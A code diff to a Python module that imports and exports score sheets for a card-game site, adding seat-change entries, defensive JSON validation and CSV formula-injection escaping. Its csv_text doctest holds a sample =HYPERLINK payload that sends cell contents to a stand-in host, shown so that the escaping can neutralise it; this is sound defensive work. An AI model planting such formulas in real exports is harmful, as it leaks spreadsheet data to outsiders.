@@ -3,7 +3,15 @@ a CSV of the accounts for a spreadsheet.
 
 The JSON keeps what the sheet stores -- rule set, players, stake, options, the deals'
 inputs -- plus the totals, which an import checks against its own recomputation, so a
-file edited by hand into something inconsistent is refused with the reason.
+file edited by hand into something inconsistent is refused with the reason. Format
+version 1 is a sheet whose players sat through the evening; version 2 adds entries of a
+player joining (``"kind": "join"``) or leaving (``"leave"``) the table, and lists the
+late players among ``players`` (a player whose first such entry is a join was not at the
+table at the start). A sheet without them is still written as version 1, and both import.
+
+A file is read defensively: JSON that no sheet could be (a number of thousands of digits,
+lists nested thousands deep, text that is not valid Unicode or holds a NUL, which no
+database keeps) is refused with the reason, never an error of the server.
 """
 
 from __future__ import annotations
@@ -19,7 +27,11 @@ from .ledger import Entry, EntryError, Sheet, Spec, SpecError, format_amount
 
 FORMAT = "rulesite-scoresheet"
 FORMAT_VERSION = 1
+FORMAT_VERSIONS: tuple[int, ...] = (1, 2)
+"""The versions this site reads: 1, and 2 (players joining and leaving)."""
 MAX_ENTRIES = 2000
+MAX_DEPTH = 8
+"""The deepest nesting of a sheet: the object, entries, an entry, hands, a hand, a card."""
 _TOTAL = re.compile(r"-?\d{1,12}(?:\.\d{1,12})?(?:/[1-9]\d{0,12})?")
 
 
@@ -34,13 +46,16 @@ class Imported:
     finished: bool
     entries: list[Entry]
     sheet: Sheet
+    states: list[dict[str, Any]]
+    """The running state after each entry, as :func:`ledger.dump_state` stores it."""
 
 
 def export_dict(title: str, finished: bool, spec: Spec, sheet: Sheet) -> dict[str, Any]:
     """The sheet as a JSON-able object (no tokens: a file may be shared freely)."""
+    seats_change = bool(spec.late) or any(r.entry.kind in ledger.SEAT_KINDS for r in sheet.rows)
     return {
         "format": FORMAT,
-        "format_version": FORMAT_VERSION,
+        "format_version": 2 if seats_change else FORMAT_VERSION,
         "title": title,
         "rules": spec.rules,
         "rules_label": spec.rule_set.label,
@@ -48,7 +63,9 @@ def export_dict(title: str, finished: bool, spec: Spec, sheet: Sheet) -> dict[st
         "stake": str(spec.stake) if spec.stake is not None else None,
         "options": dict(spec.options),
         "finished": finished,
-        "entries": [{"kind": row.entry.kind, **row.entry.data} for row in sheet.rows],
+        "entries": [
+            {"kind": row.entry.kind, **ledger.padded(spec, row.entry.data)} for row in sheet.rows
+        ],
         "totals": {
             name: str(total) for name, total in zip(spec.players, sheet.totals, strict=True)
         },
@@ -68,6 +85,40 @@ def _require(obj: dict[str, Any], name: str, kind: type | tuple[type, ...], what
     return value
 
 
+def _check_texts(obj: Any) -> None:
+    """Refuse nesting deeper than a sheet's and text no database keeps: half of a surrogate
+    pair (what ``"\\ud800"`` decodes to), or a NUL."""
+    stack: list[tuple[Any, str, int]] = [(obj, "", 0)]
+    while stack:
+        value, path, depth = stack.pop()
+        if depth > MAX_DEPTH:
+            raise ImportError_(f"{path or 'the file'}: nested deeper than any sheet")
+        if isinstance(value, str):
+            texts = [value]
+        elif isinstance(value, dict):
+            texts = list(value)
+            stack.extend(
+                (v, f"{path}.{k}" if path else str(k), depth + 1) for k, v in value.items()
+            )
+        elif isinstance(value, list):
+            texts = []
+            stack.extend((v, f"{path}[{i}]", depth + 1) for i, v in enumerate(value))
+        else:
+            continue
+        for text in texts:
+            if "\x00" in text:
+                raise ImportError_(
+                    f"{path or 'the file'}: holds a NUL character, which is not text"
+                )
+            try:
+                text.encode("utf-8")
+            except UnicodeEncodeError:
+                raise ImportError_(
+                    f"{path or 'the file'}: holds half of a surrogate pair (like \\ud800), "
+                    "which is not text"
+                ) from None
+
+
 def import_sheet(text: str) -> Imported:
     """Read and check an exported sheet; every deal is replayed through the engine.
 
@@ -75,6 +126,10 @@ def import_sheet(text: str) -> Imported:
     Traceback (most recent call last):
     ...
     games.scoresheet.serialize.ImportError_: format: this is not a rulesite score sheet (format 'x')
+    >>> import_sheet('{"n": ' + "9" * 5000 + "}")  # doctest: +ELLIPSIS
+    Traceback (most recent call last):
+    ...
+    games.scoresheet.serialize.ImportError_: ...: a number has more than 4,300 digits
     """
     try:
         obj = json.loads(text)
@@ -84,20 +139,31 @@ def import_sheet(text: str) -> Imported:
         ) from None
     except RecursionError:
         raise ImportError_("the file is not JSON a sheet could be: it nests too deeply") from None
+    except ValueError:  # Python refuses to read an integer of more than 4,300 digits
+        raise ImportError_(
+            "the file is not JSON a sheet could be: a number has more than 4,300 digits"
+        ) from None
     if not isinstance(obj, dict):
         raise ImportError_("the file must hold one JSON object, the sheet")
+    _check_texts(obj)
     if obj.get("format") != FORMAT:
         raise ImportError_(
-            f"format: this is not a rulesite score sheet (format {obj.get('format')!r})"
+            f"format: this is not a rulesite score sheet (format {str(obj.get('format'))[:40]!r})"
         )
     version = obj.get("format_version")
-    if version != FORMAT_VERSION:
+    if type(version) is not int or version not in FORMAT_VERSIONS:
+        shown = json.dumps(version)[:40]
         raise ImportError_(
-            f"format_version: this site reads version {FORMAT_VERSION}, not {version!r}"
+            f"format_version: this site reads versions "
+            f"{' and '.join(str(v) for v in FORMAT_VERSIONS)} (whole numbers), not {shown}"
         )
     title = obj.get("title", "")
-    if not isinstance(title, str) or len(title) > 80:
-        raise ImportError_("title: must be text of at most 80 characters")
+    if not isinstance(title, str) or len(title) > ledger.MAX_TITLE:
+        raise ImportError_(f"title: must be text of at most {ledger.MAX_TITLE} characters")
+    try:
+        title = ledger.clean_title(title)
+    except SpecError as error:
+        raise ImportError_(f"title: {error.message}") from None
     finished = obj.get("finished", False)
     if not isinstance(finished, bool):
         raise ImportError_("finished: must be true or false")
@@ -114,8 +180,10 @@ def import_sheet(text: str) -> Imported:
             f"{ledger.RULE_SETS[rules].label}"
         )
     stake = obj.get("stake")
+    raw_entries = _require(obj, "entries", list, "a list of the deals")
+    late = _late_seats(raw_entries, version)
     try:
-        spec = ledger.make_spec(rules, players, "" if stake is None else stake, options)
+        spec = ledger.make_spec(rules, players, "" if stake is None else stake, options, late)
     except SpecError as error:
         where = (
             error.field
@@ -125,7 +193,6 @@ def import_sheet(text: str) -> Imported:
         raise ImportError_(f"{where}: {error.message}") from None
     if len(spec.players) != len(players):
         raise ImportError_("players: a name is empty")
-    raw_entries = _require(obj, "entries", list, "a list of the deals")
     if len(raw_entries) > MAX_ENTRIES:
         raise ImportError_(f"entries: more than {MAX_ENTRIES} deals is not an evening")
     entries: list[Entry] = []
@@ -133,17 +200,26 @@ def import_sheet(text: str) -> Imported:
         if not isinstance(raw, dict):
             raise ImportError_(f"entries[{i}]: must be an object (a deal)")
         kind = raw.get("kind", "deal")
+        if kind in ledger.SEAT_KINDS and version < 2:
+            raise ImportError_(f"entries[{i}]: a {kind} needs format_version 2")
         data = {k: v for k, v in raw.items() if k != "kind"}
         try:
             entries.append(Entry(kind, ledger.clean_entry(spec, kind, data)))
         except EntryError as error:
             where = f" ({error.field})" if error.field else ""
             raise ImportError_(f"entries[{i}]{where}: {error.message}") from None
+    state = ledger.initial(spec)
+    rows = []
+    states = []
     try:
-        sheet = ledger.compute(spec, entries)
+        for entry in entries:
+            state, row = ledger.step(spec, state, entry)
+            rows.append(row)
+            states.append(ledger.dump_state(state, row))
     except EntryError as error:
         where = f" ({error.field})" if error.field else ""
         raise ImportError_(f"entries[{error.index}]{where}: {error.message}") from None
+    sheet = ledger.summarise(spec, state, rows)
     totals = obj.get("totals")
     if totals is not None:
         if not isinstance(totals, dict):
@@ -160,7 +236,21 @@ def import_sheet(text: str) -> Imported:
                     f"totals.{name}: the file says {format_amount(stated)}, but its deals give "
                     f"{format_amount(total)}; was the file edited?"
                 )
-    return Imported(spec, title, finished, entries, sheet)
+    return Imported(spec, title, finished, entries, sheet, states)
+
+
+def _late_seats(raw_entries: list[Any], version: int) -> list[int]:
+    """The seats whose first entry of joining or leaving is a join: not at the table at the
+    start (format version 2)."""
+    if version < 2:
+        return []
+    first: dict[int, str] = {}
+    for raw in raw_entries:
+        if isinstance(raw, dict) and raw.get("kind") in ledger.SEAT_KINDS:
+            seat = raw.get("player")
+            if type(seat) is int and seat not in first:
+                first[seat] = raw["kind"]
+    return sorted(seat for seat, kind in first.items() if kind == "join")
 
 
 def csv_amount(value: Fraction | int | None) -> str:
@@ -178,8 +268,47 @@ def csv_amount(value: Fraction | int | None) -> str:
     return text
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_text(text: str) -> str:
+    """Text for a spreadsheet cell that no spreadsheet runs as a formula: a cell starting
+    with ``=``, ``+``, ``-``, ``@``, a tab or a line break gets a single quote before it
+    (OWASP's advice for CSV injection); the name stays readable.
+
+    >>> print(csv_text('=HYPERLINK("http://x.example/?"&A1,"ok")'), csv_text("Ann"))
+    '=HYPERLINK("http://x.example/?"&A1,"ok") Ann
+    """
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def csv_rows(title: str, spec: Spec, sheet: Sheet) -> list[list[str]]:
-    """The accounts as a table: one row per deal, each player's result and running total."""
+    """The accounts as a table: one row per deal, each player's result and running total.
+    Every cell of text (names, hands) is made safe from formula injection by
+    :func:`csv_text`; amounts are numbers, written by :func:`csv_amount`."""
+    rows = _csv_rows(spec, sheet)
+    amounts = _amount_columns(spec)
+    return [
+        [cell if i in amounts and r > 0 else csv_text(cell) for i, cell in enumerate(row)]
+        for r, row in enumerate(rows)
+    ]
+
+
+def _amount_columns(spec: Spec) -> set[int]:
+    columns: set[int] = set()
+    i = 3
+    for _ in spec.players:
+        width = 3 + (1 if spec.rule_set.bought else 0) + (1 if spec.rules == "pool" else 0)
+        # hand, [bought], net, total, [counters]: net and total are amounts
+        net = i + (2 if spec.rule_set.bought else 1)
+        columns |= {net, net + 1}
+        i += width
+    if spec.rules == "pool":
+        columns.add(i)
+    return columns
+
+
+def _csv_rows(spec: Spec, sheet: Sheet) -> list[list[str]]:
     cox = spec.rules == "cox"
     pool = spec.rules == "pool"
     head = ["Deal", "Dealer" if not cox else "Retailer", "Winners"]
@@ -193,8 +322,10 @@ def csv_rows(title: str, spec: Spec, sheet: Sheet) -> list[list[str]]:
         head.append("Pool")
     rows = [head]
     for row in sheet.rows:
-        label = str(row.number) if row.number is not None else "horse"
+        label = str(row.number) if row.number is not None else row.entry.kind
         dealer = spec.players[row.dealer] if row.dealer is not None else ""
+        if row.entry.kind in ledger.SEAT_KINDS:
+            dealer = spec.players[row.entry.data["player"]]
         winners = ", ".join(spec.players[w] for w in row.winners)
         line = [label, dealer, winners]
         hands = {h.seat: h for h in row.hands}
@@ -211,7 +342,7 @@ def csv_rows(title: str, spec: Spec, sheet: Sheet) -> list[list[str]]:
                     shown = " ".join(hand.cards) + f" (base {hand.base})"
             cells = [shown, csv_amount(row.net[seat]), csv_amount(row.totals[seat])]
             if spec.rule_set.bought:
-                bought = row.entry.data.get("bought", [0] * spec.n)[seat]
+                bought = ledger.padded(spec, row.entry.data).get("bought", [0] * spec.n)[seat]
                 cells.insert(1, str(bought))
             if pool:
                 cells.append(str(row.counters[seat]) if row.counters else "")
